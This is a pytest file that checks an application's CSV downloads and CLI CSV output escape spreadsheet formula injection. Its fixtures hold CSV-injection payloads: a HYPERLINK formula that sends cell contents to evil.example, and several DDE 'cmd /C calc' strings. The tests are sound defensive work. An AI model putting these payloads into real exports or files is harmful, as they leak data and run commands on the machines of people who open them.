"""CSV downloads and `onpace compute --format csv` never write a live spreadsheet formula.

The channels of the sales data are replaced by formulas (a HYPERLINK that leaks
the sheet, a DDE command, an @-function), a target reason is one too, and a
target value is negative: the text cells come out with a leading apostrophe, the
numbers as numbers.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest
from typer.testing import CliRunner

from onpace.cli.main import app
from tests.support.sales_data import SALES_DATA
from tests.web.conftest import Site, make_site

CHANNELS = {
    "sales": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "web": "+cmd|' /C calc'!A0",
    "store": "@SUM(1+1)*cmd|' /C calc'!A0",
}
REASON = "-2+3+cmd|' /C calc'!A0"


def _data() -> dict[str, object]:
    data = dict(SALES_DATA)
    orders = SALES_DATA["orders"].copy()
    orders["channel"] = orders["channel"].map(CHANNELS)
    data["orders"] = orders
    return data


@pytest.fixture(scope="module")
def formula_site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    s = make_site(tmp_path_factory.mktemp("formula") / "ws", data=_data())  # type: ignore[arg-type]
    yield s
    s.app.state.ctx.store.close()


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _no_live_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            if cell[:1] in ("=", "+", "@", "\t", "\r"):
                raise AssertionError(f"live formula in a CSV cell: {cell!r}")
            if cell.startswith("-"):
                float(cell)  # only a number may start with a minus


def test_targets_csv(formula_site: Site) -> None:
    manager = formula_site.api("manager")
    for body in (
        {"kpi": "revenue", "period": "2024-Q1", "value": "600", "reason": REASON},
        {"kpi": "net_customer_growth", "period": "2024-Q1", "value": "-5", "reason": "=1+1"},
    ):
        assert manager.post("/api/v1/targets", json=body).status_code == 201, body
    rows = _cells(formula_site.login("manager").get("/targets.csv").text)
    _no_live_formula(rows)
    header = rows[0]
    reasons = {r[header.index("kpi")]: r[header.index("reason")] for r in rows[1:]}
    assert reasons == {"revenue": "'" + REASON, "net_customer_growth": "'=1+1"}
    values = {r[header.index("kpi")]: r[header.index("value")] for r in rows[1:]}
    assert float(values["net_customer_growth"]) == -5.0  # a negative number stays a number


def test_page_csv_twins(formula_site: Site) -> None:
    c = formula_site.login("manager")
    rows = _cells(c.get("/scorecard.csv", params={"by": "channel"}).text)
    _no_live_formula(rows)
    members = {r[rows[0].index("member")] for r in rows[1:]}
    assert {"'" + v for v in CHANNELS.values()} <= members
    for path in ("/kpis.csv", "/kpis/revenue.csv", "/objectives.csv", "/health.csv", "/audit.csv"):
        response = c.get(path) if path != "/audit.csv" else formula_site.login("admin").get(path)
        assert response.status_code == 200, path
        _no_live_formula(_cells(response.text))


def test_compute_csv(formula_site: Site, tmp_path: Path) -> None:
    out = tmp_path / "revenue.csv"
    args = ["compute", "revenue", "-w", str(formula_site.root), "--by", "channel"]
    args += ["--grain", "quarter", "--from", "2024-Q1", "--to", "2024-Q1", "--format", "csv"]
    done = CliRunner().invoke(app, [*args, "-o", str(out), "--as-of", "2024-03-20T12:00"])
    assert done.exit_code == 0, done.output
    rows = _cells(out.read_text(encoding="utf-8"))
    _no_live_formula(rows)
    header = rows[0]
    by_channel = {r[header.index("channel")]: float(r[header.index("value")]) for r in rows[1:]}
    # Q1 to the 20th of March: sales o1 100 + o5 120 + o8 60; web o2 50 + o6 40.50 + o7 30;
    # store o3 80 + o11 25 + o9 90
    assert by_channel == {
        "'" + CHANNELS["sales"]: 280.0,
        "'" + CHANNELS["web"]: 120.5,
        "'" + CHANNELS["store"]: 195.0,
    }
